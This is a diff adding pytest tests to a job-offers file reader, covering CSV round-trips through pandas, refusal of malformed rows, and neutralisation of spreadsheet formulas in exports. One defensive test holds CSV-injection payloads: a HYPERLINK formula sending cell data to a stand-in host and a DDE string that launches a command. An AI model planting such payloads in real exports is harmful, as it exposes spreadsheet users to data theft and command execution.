@@ -1,11 +1,15 @@
-"""Reading offers files: CSV (any delimiter), JSONL, JSON, and their errors."""
+"""Reading offers files: CSV (strict RFC 4180, any delimiter), JSONL, JSON, and their errors;
+CSV exports that spreadsheets cannot run."""
 
 from __future__ import annotations
 
 import json
+import random
 
+import pandas as pd
 import pytest
 
+from jobmatch.artifacts import atomic_write_csv, csv_text
 from jobmatch.offers import OffersFileError, load_offers, parse_offers
 
 
@@ -70,3 +74,85 @@ def test_jsonl_keeps_unicode_line_separators_inside_strings():
     offers = parse_offers(f'{first}\r\n{{"id": "2", "description": "x"}}'.encode(), "o.jsonl")
     assert [o.id for o in offers] == ["1", "2"]
     assert offers[0].description == "Missions\u2028- Python\u2029- SQL"
+
+
+# A lone carriage return is left out: pandas writes it unquoted, so no reader can tell it from
+# a line end (pandas' own read_csv neither); "\r\n" inside a field is quoted and kept.
+ALPHABET = [*"abc XYZ,;\"'\t\n=+-@éàç€—…0123456789", "\u2028", '""', "\r\n"]
+
+
+def random_text(rng: random.Random, longest: int = 40) -> str:
+    return "".join(rng.choice(ALPHABET) for _ in range(rng.randint(0, longest))).strip()
+
+
+@pytest.mark.parametrize("seed", range(60))
+def test_any_csv_written_by_pandas_reads_back_identical(seed: int) -> None:
+    """Property: random offers with quotes, line breaks, delimiters and accents survive
+    pandas' ``to_csv`` (any of the three delimiters) and our reader unchanged."""
+    rng = random.Random(seed)
+    rows = [
+        {
+            "id": f"o{n}",
+            "title": random_text(rng, 20),
+            "company": random_text(rng, 10),
+            "location": random_text(rng, 10),
+            "description": random_text(rng, 200) or "x",
+            "url": "",
+            "notes": random_text(rng, 30),
+        }
+        for n in range(rng.randint(1, 12))
+    ]
+    frame = pd.DataFrame(rows)
+    delimiter = rng.choice([",", ";", "\t"])
+    data = frame.to_csv(index=False, sep=delimiter).encode("utf-8")
+    offers = parse_offers(data, "offers.tsv" if delimiter == "\t" else "offers.csv")
+    assert len(offers) == len(rows)
+    for offer, row in zip(offers, rows, strict=True):
+        record = offer.to_record()
+        for key, value in row.items():
+            assert record[key] == value.strip(), (key, value)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b'id,description\n1,"never closed\n2,b\n', "line 3: not valid CSV"),
+        (b"id,description\n1,a\n2,b,c\n", "line 3: 3 fields where the header has 2"),
+        (b"id,description\n1\n", "line 2: 1 fields where the header has 2"),
+    ],
+)
+def test_ragged_rows_and_unclosed_quotes_are_refused_with_their_line(content, message):
+    with pytest.raises(OffersFileError, match=message):
+        parse_offers(content, "o.csv")
+
+
+def test_rfc4180_csv_with_doubled_quotes_and_line_breaks_is_one_offer_per_record():
+    frame = pd.DataFrame(
+        {
+            "id": ["1", "2"],
+            "description": ['Il a dit ""oui"", puis:\n- Python\n- "SQL"', "simple"],
+        }
+    )
+    offers = parse_offers(frame.to_csv(index=False).encode(), "o.csv")
+    assert [o.description for o in offers] == list(frame["description"])
+
+
+def test_exports_neutralise_formula_cells(tmp_path):
+    frame = pd.DataFrame(
+        {
+            "title": ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "ok"],
+            "note": ["@SUM(1+1)", "-12.5", "\tx"],
+            "score": [-3.0, 1.5, 2.0],
+        }
+    )
+    path = atomic_write_csv(tmp_path / "out.csv", frame)
+    back = pd.read_csv(path, keep_default_na=False)
+    assert back["title"].tolist() == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1)',
+        "'+cmd|' /C calc'!A0",
+        "ok",
+    ]
+    assert back["note"].tolist()[:2] == ["'@SUM(1+1)", "-12.5"]  # a number stays a number
+    assert back["note"].tolist()[2] == "'\tx"
+    assert back["score"].tolist() == [-3.0, 1.5, 2.0]
+    assert csv_text(frame) == path.read_text(encoding="utf-8")
